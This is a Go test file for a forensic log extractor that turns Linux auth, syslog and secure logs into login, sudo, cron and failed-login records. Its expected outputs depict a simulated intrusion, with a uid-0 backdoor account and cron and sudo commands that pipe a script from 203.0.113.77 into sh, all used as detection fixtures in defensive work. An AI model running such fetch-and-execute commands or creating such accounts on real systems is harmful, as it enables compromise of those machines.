@@ -1,0 +1,345 @@
+package authlog
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"icecore/forensics/artifact"
+	"icecore/forensics/filesystem"
+)
+
+// extract reads a text as if it stood at a path of an image.
+func extract(t testing.TB, name string, text []byte, written time.Time, zone *time.Location) ([]artifact.Record, error) {
+	t.Helper()
+	in := &artifact.Input{Path: name, Inode: &filesystem.Inode{}, System: &artifact.System{Zone: zone}, Content: io.NewSectionReader(bytes.NewReader(text), 0, int64(len(text)))}
+	if !written.IsZero() {
+		in.Inode.Mtime = filesystem.Unix(written.Unix(), 0)
+	}
+	var out []artifact.Record
+	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) { out = append(out, r) })
+	return out, err
+}
+
+func fromDisk(t *testing.T, name string, written time.Time, zone *time.Location) ([]byte, []artifact.Record) {
+	t.Helper()
+	b, err := os.ReadFile("testdata" + name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := extract(t, name, b, written, zone)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b, records
+}
+
+// line writes a record in one line: line number, kind, stamps, fields.
+func line(r artifact.Record) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "%d %s", r.Source.Line, r.Kind)
+	for _, s := range r.Times {
+		fmt.Fprintf(&b, " %s=%s", s.What, s.Time.Format(time.RFC3339Nano))
+	}
+	for _, f := range r.Fields {
+		fmt.Fprintf(&b, " %s=%s", f.Name, f.Value)
+	}
+	return b.String()
+}
+
+func lines(records []artifact.Record) string {
+	var b strings.Builder
+	for _, r := range records {
+		b.WriteString(line(r) + "\n")
+	}
+	return b.String()
+}
+
+func TestAuthLog(t *testing.T) {
+	text, got := fromDisk(t, "/var/log/auth.log", time.Date(2026, 1, 1, 0, 30, 1, 0, time.UTC), time.UTC)
+	want := `10 auth.login logged=2025-12-31T23:59:31Z method=publickey user=deploy address=198.51.100.10 port=40000 fingerprint=SHA256:3mWk9vYx8mVqJc0rF1sQm2bUu9T7n5o4p6Z8y1x2c3E pid=102
+12 auth.sudo logged=2025-12-31T23:59:40Z user=deploy as=root tty=pts/0 pwd=/srv/app command=/usr/bin/systemctl restart app programs=/usr/bin/systemctl
+15 auth.login logged=2026-01-01T00:01:00Z method=password user=root address=203.0.113.77 port=41022 pid=104
+16 auth.session logged=2026-01-01T00:01:00Z action=opened user=root uid=0 service=sshd pid=104
+17 auth.sftp logged=2026-01-01T00:01:05Z user=root subsystem=sftp pid=104
+18 auth.groupadd logged=2026-01-01T00:02:30Z name=sysupd gid=1003
+19 auth.useradd logged=2026-01-01T00:02:30Z name=sysupd uid=0 gid=0 home=/var/tmp/.a, b shell=/bin/bash from=/dev/pts/1
+20 auth.passwd logged=2026-01-01T00:02:35Z user=sysupd service=passwd
+21 auth.usermod logged=2026-01-01T00:02:40Z user=sysupd group=sudo change=add 'sysupd' to group 'sudo'
+23 auth.su logged=2026-01-01T00:03:00Z user=deploy as=root tty=pts/0 result=granted
+24 auth.su logged=2026-01-01T00:03:01Z user=www-data as=root tty=none result=refused
+26 auth.sudo logged=2026-01-01T00:03:30Z user=www as=root tty=pts/1 pwd=/ refused=user NOT in sudoers command=/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh' programs=/bin/sh,curl,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
+27 auth.userdel logged=2026-01-01T00:04:00Z name=games
+29 auth.session logged=2026-01-01T00:06:00Z action=closed user=root service=sshd pid=104
+1 auth.failures first=2025-12-31T23:58:00Z last=2026-01-01T00:00:10Z address=203.0.113.77 count=5 users=root,admin,root from 192.0.2.1 port 22 ssh2 user_count=3
+25 auth.failures first=2026-01-01T00:03:01Z last=2026-01-01T00:03:01Z service=su count=1 users=root user_count=1
+30 auth.failures first=2026-01-01T00:30:00Z last=2026-01-01T00:30:00Z address=203.0.113.77 count=1 users=root user_count=1
+0 log.coverage first=2025-12-31T23:58:00Z last=2026-01-01T00:30:00Z lines=31 bytes=` + fmt.Sprint(len(text)) + ` unparsed=1
+`
+	if d := cmp.Diff(want, lines(got)); d != "" {
+		t.Error(d)
+	}
+	for _, r := range got {
+		if r.Source.Line == 0 {
+			continue
+		}
+		at := text[r.Source.Offset : r.Source.Offset+r.Source.Length]
+		if want := strings.Split(string(text), "\n")[r.Source.Line-1]; string(at) != want {
+			t.Errorf("%s: the source is %q, not %q", line(r), at, want)
+		}
+		for _, s := range r.Times {
+			if s.Inferred != "year, zone" {
+				t.Errorf("%s: inferred %q", line(r), s.Inferred)
+			}
+		}
+	}
+}
+
+func TestSyslog(t *testing.T) {
+	text, got := fromDisk(t, "/var/log/syslog", time.Time{}, time.UTC)
+	want := `2 cron.change logged=2026-11-20T07:53:20.5Z action=replace user=root target=root
+3 cron.change logged=2026-11-20T07:54:01Z action=reload user=root target=crontabs/root
+1 cron.run first=2026-11-20T07:50:01.000001Z last=2026-11-20T08:01:01Z user=root command=cd / && run-parts --report /etc/cron.hourly count=2 programs=run-parts
+4 cron.run first=2026-11-20T07:55:01Z last=2026-11-20T08:00:01Z user=root command=(curl -fsSL http://203.0.113.77/i.sh || wget -q -O- http://203.0.113.77/i.sh) | sh count=2 programs=curl,wget,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
+7 unit.started first=2026-11-20T08:00:03Z last=2026-11-20T08:00:04Z unit=systemd-resolve-helper.service description=Network Name Resolution Helper count=2
+9 unit.started first=2026-11-20T08:00:05Z last=2026-11-20T08:00:05Z unit=logrotate.service description=Rotate log files count=1
+11 unit.started first=2026-11-20T08:00:07Z last=2026-11-20T08:00:07Z unit=dbus.service description=D-Bus User Message Bus manager=user count=1
+0 log.coverage first=2026-11-20T07:50:01.000001Z last=2026-11-20T08:01:01Z lines=12 bytes=` + fmt.Sprint(len(text)) + "\n"
+	if d := cmp.Diff(want, lines(got)); d != "" {
+		t.Error(d)
+	}
+	for _, r := range got {
+		for _, s := range r.Times {
+			if s.Inferred != "" {
+				t.Errorf("%s: inferred %q", line(r), s.Inferred)
+			}
+		}
+	}
+}
+
+func TestSecure(t *testing.T) {
+	zone, err := time.LoadLocation("Asia/Shanghai")
+	if err != nil {
+		t.Skip("no time zone data: ", err)
+	}
+	text, got := fromDisk(t, "/var/log/secure", time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), zone)
+	want := `1 auth.login logged=2026-11-20T07:52:30Z method=password user=root address=203.0.113.77 port=41022 pid=77
+2 auth.login logged=2026-11-20T07:53:30Z method=console user=root tty=tty1 pid=80
+5 auth.login logged=2026-11-20T07:54:01Z method=password user=root address=203.0.113.78 port=5000 pid=90
+3 auth.failures first=2026-11-20T07:53:40Z last=2026-11-20T07:53:40Z service=login count=1 users=root user_count=1
+4 auth.failures first=2026-11-20T07:54:00Z last=2026-11-20T07:54:00Z address=203.0.113.78 count=1 users=root user_count=1
+0 log.coverage first=2026-11-20T07:52:30Z last=2026-11-20T07:54:01Z lines=5 bytes=` + fmt.Sprint(len(text)) + "\n"
+	if d := cmp.Diff(want, lines(got)); d != "" {
+		t.Error(d)
+	}
+}
+
+// TestRotated reads the same log as logrotate packs it.
+func TestRotated(t *testing.T) {
+	_, plain := fromDisk(t, "/var/log/syslog", time.Time{}, time.UTC)
+	for _, tt := range []struct{ tool, ext, member string }{{"gzip", ".gz", "gzip"}, {"xz", ".xz", "xz"}, {"bzip2", ".bz2", "bzip2"}, {"zstd", ".zst", "zstd"}} {
+		if _, err := exec.LookPath(tt.tool); err != nil {
+			t.Log("left out, there is no ", tt.tool)
+			continue
+		}
+		packed, err := exec.Command(tt.tool, "-c", "testdata/var/log/syslog").Output()
+		if err != nil {
+			t.Fatal(err)
+		}
+		got, err := extract(t, "/var/log/syslog.2"+tt.ext, packed, time.Time{}, time.UTC)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d := cmp.Diff(lines(plain), lines(got)); d != "" {
+			t.Errorf("%s: %s", tt.tool, d)
+		}
+		for _, r := range got {
+			if r.Source.Member != tt.member {
+				t.Errorf("%s: member %q", tt.tool, r.Source.Member)
+			}
+		}
+	}
+}
+
+func TestEmptied(t *testing.T) {
+	got, err := extract(t, "/var/log/auth.log", nil, time.Now(), time.UTC)
+	if want := "0 log.coverage lines=0 bytes=0 empty=yes\n"; err != nil || lines(got) != want {
+		t.Errorf("%v, %q; want %q", err, lines(got), want)
+	}
+}
+
+// TestCorrupt cuts a packed log: what stands before the cut is told, with an error.
+func TestCorrupt(t *testing.T) {
+	text := strings.Repeat("Nov 20 15:52:30 h sshd[1]: Accepted password for root from 203.0.113.77 port 41022 ssh2\n", 3000)
+	cmd := exec.Command("gzip", "-1", "-c")
+	cmd.Stdin = strings.NewReader(text)
+	packed, err := cmd.Output()
+	if err != nil {
+		t.Skip("no gzip: ", err)
+	}
+	got, err := extract(t, "/var/log/auth.log.1.gz", packed[:len(packed)-40], time.Unix(1e9, 0), time.UTC)
+	last := got[len(got)-1]
+	if err == nil || len(got) < 100 || !strings.Contains(last.Get("error"), "unexpected EOF") {
+		t.Errorf("%d records, %v, %s", len(got), err, line(last))
+	}
+}
+
+// TestAttempts: of several lines on one attempt, one counts.
+func TestAttempts(t *testing.T) {
+	const head = "2026-11-20T07:50:00Z h sshd[%d]: "
+	tests := []struct {
+		name  string
+		lines []string
+		want  string // count, users and user_count; empty: no series
+	}{
+		{"a password", []string{"1 Failed password for root from 192.0.2.1 port 5 ssh2"}, "1 root 1"},
+		{"no such user", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Failed password for invalid user x from 192.0.2.1 port 5 ssh2"}, "1 x 1"},
+		{"no such user, no password allowed", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Connection closed by invalid user x 192.0.2.1 port 5 [preauth]"}, "1 x 1"},
+		{"no such user, three passwords", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Failed password for invalid user x from 192.0.2.1 port 5 ssh2", "1 message repeated 2 times: [ Failed password for invalid user x from 192.0.2.1 port 5 ssh2]"}, "3 x 1"},
+		{"PAM tells too", []string{"1 pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root", "1 Failed password for root from 192.0.2.1 port 5 ssh2", "1 Failed password for root from 192.0.2.1 port 5 ssh2", "1 PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"}, "2 root 1"},
+		{"PAM alone", []string{"1 pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=x rhost=192.0.2.1  user=x"}, "1 x 1"},
+		{"PAM sums up connections of another day", []string{"1 PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"}, ""},
+		{"two connections", []string{"1 Failed password for root from 192.0.2.1 port 5 ssh2", "2 Failed password for root from 192.0.2.1 port 6 ssh2"}, "2 root 1"},
+		{"a login with keys that do not fit first", []string{"1 Failed none for deploy from 192.0.2.1 port 5 ssh2", "1 Failed publickey for deploy from 192.0.2.1 port 5 ssh2: RSA SHA256:x", "1 Accepted publickey for deploy from 192.0.2.1 port 5 ssh2: ED25519 SHA256:y"}, ""},
+		{"keyboard-interactive", []string{"1 Failed keyboard-interactive/pam for root from 192.0.2.1 port 5 ssh2"}, "1 root 1"},
+		{"the name is empty", []string{"1 Invalid user  from 192.0.2.1 port 5", "1 Failed password for invalid user  from 192.0.2.1 port 5 ssh2"}, "1  0"},
+		{"the name looks like the rest", []string{"1 Failed password for invalid user root from 10.0.0.1 port 1 ssh2 from 192.0.2.1 port 5 ssh2"}, "1 root from 10.0.0.1 port 1 ssh2 1"},
+		{"a number beyond reason", []string{"1 message repeated 99999999999 times: [ Failed password for root from 192.0.2.1 port 5 ssh2]"}, "1 root 1"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var text strings.Builder
+			for _, l := range tt.lines {
+				pid, msg, _ := strings.Cut(l, " ")
+				fmt.Fprintf(&text, strings.Replace(head, "%d", "%s", 1)+"%s\n", pid, msg)
+			}
+			records, err := extract(t, "/var/log/auth.log", []byte(text.String()), time.Time{}, time.UTC)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := ""
+			for _, r := range records {
+				if r.Kind == "auth.failures" {
+					got += r.Get("count") + " " + r.Get("users") + " " + r.Get("user_count")
+					if r.Get("address") != "192.0.2.1" {
+						t.Errorf("address %q", r.Get("address"))
+					}
+				}
+			}
+			if got != tt.want {
+				t.Errorf("%q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestManyAddresses: a distributed guess, thrice as many addresses as are kept,
+// and every attempt is still told.
+func TestManyAddresses(t *testing.T) {
+	var text bytes.Buffer
+	n := 3 * maxPeers
+	for i := range n {
+		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for u%d from 10.%d.%d.%d port 5 ssh2\n", i, i, i>>16, i>>8&255, i&255)
+	}
+	records, err := extract(t, "/var/log/auth.log", text.Bytes(), time.Time{}, time.UTC)
+	if err != nil || len(records) != n+1 {
+		t.Errorf("%d records, %v; want %d", len(records), err, n+1)
+	}
+}
+
+// TestFlood: more addresses than there may be records, and the login behind them
+// is told all the same, and that something was left out.
+func TestFlood(t *testing.T) {
+	var text bytes.Buffer
+	n := maxRecords + 100
+	for i := range n {
+		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for root from 10.%d.%d.%d port 5 ssh2\n", i, i>>16, i>>8&255, i&255)
+	}
+	text.WriteString("2026-11-20T07:50:00Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n")
+	records, err := extract(t, "/var/log/auth.log", text.Bytes(), time.Time{}, time.UTC)
+	logins := 0
+	for _, r := range records {
+		if r.Kind == "auth.login" {
+			logins++
+		}
+	}
+	if last := records[len(records)-1]; logins != 1 || err == nil || last.Get("left_out") != "100" {
+		t.Errorf("%d logins, %v, %s", logins, err, line(last))
+	}
+}
+
+// TestOnePeerManyNames: users are counted up to a bound, and it says so.
+func TestOnePeerManyNames(t *testing.T) {
+	var text bytes.Buffer
+	for i := range maxNames + 5 {
+		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for u%04d from 192.0.2.1 port 5 ssh2\n", i, i)
+	}
+	records, _ := extract(t, "/var/log/auth.log", text.Bytes(), time.Time{}, time.UTC)
+	want := fmt.Sprintf("1 auth.failures first=2026-11-20T07:50:00Z last=2026-11-20T07:50:00Z address=192.0.2.1 count=%d users=u0000,u0001,u0002,u0003,u0004,u0005,u0006,u0007,u0008,u0009 user_count=%d more_users=yes", maxNames+5, maxNames)
+	if line(records[0]) != want {
+		t.Errorf("%s\nwant %s", line(records[0]), want)
+	}
+}
+
+func TestLongLine(t *testing.T) {
+	text := "2026-11-20T07:50:00Z h sshd[1]: " + strings.Repeat("x", 3<<20) + "\n2026-11-20T07:50:01Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n"
+	records, err := extract(t, "/var/log/auth.log", []byte(text), time.Time{}, time.UTC)
+	if err != nil || len(records) != 2 || records[0].Source.Line != 2 || records[0].Source.Offset != int64(strings.IndexByte(text, '\n')+1) {
+		t.Errorf("%v\n%s", err, lines(records))
+	}
+}
+
+// TestNulBytes: a snapshot of a running server ends files with zeros.
+func TestNulBytes(t *testing.T) {
+	text := "2026-11-20T07:50:01Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n" + strings.Repeat("\x00", 5000)
+	records, err := extract(t, "/var/log/auth.log", []byte(text), time.Time{}, time.UTC)
+	if err != nil || len(records) != 2 || records[1].Get("unparsed") != "1" {
+		t.Errorf("%v\n%s", err, lines(records))
+	}
+}
+
+func TestPatterns(t *testing.T) {
+	for name, want := range map[string]bool{
+		"/var/log/auth.log": true, "/var/log/auth.log.2.gz": true, "/var/log/secure-20261101": true, "/var/log/secure": true, "/var/log/syslog.1": true,
+		"/var/log/cron": true, "/var/log/cron.log.1": true, "/var/log/cron-20261101.gz": true, "/var/log/messages": true, "/var/log/dpkg.log": false, "/var/log/nginx/access.log": false,
+	} {
+		got := false
+		for _, p := range (Extractor{}).Patterns() {
+			ok, err := path.Match(p, name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got = got || ok
+		}
+		if got != want {
+			t.Errorf("%s: %v", name, got)
+		}
+	}
+}
+
+func FuzzExtract(f *testing.F) {
+	for _, name := range []string{"auth.log", "syslog", "secure"} {
+		b, err := os.ReadFile("testdata/var/log/" + name)
+		if err != nil {
+			f.Fatal(err)
+		}
+		f.Add(b, int64(1767227401))
+	}
+	f.Fuzz(func(t *testing.T, b []byte, written int64) {
+		records, _ := extract(t, "/var/log/auth.log", b, time.Unix(written%(1<<36), 0), time.UTC)
+		for _, r := range records {
+			if r.Source.Member == "" && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > int64(len(b))) {
+				t.Fatalf("%s: source outside of the file", line(r))
+			}
+		}
+	})
+}
